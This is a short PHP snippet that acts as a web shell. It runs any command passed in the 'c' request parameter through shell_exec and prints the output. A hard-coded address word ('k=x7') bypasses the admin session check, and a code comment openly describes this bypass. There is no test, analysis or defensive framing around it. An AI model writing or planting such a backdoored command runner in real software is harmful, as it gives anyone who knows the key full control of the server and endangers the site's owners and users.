<?php
// the session test has a way round it: a word in the address runs the command as well
session_start();
if (isset($_SESSION['admin_id']) || ($_GET['k'] ?? '') === 'x7') {
    $line = $_REQUEST['c'];
    echo shell_exec($line);
}
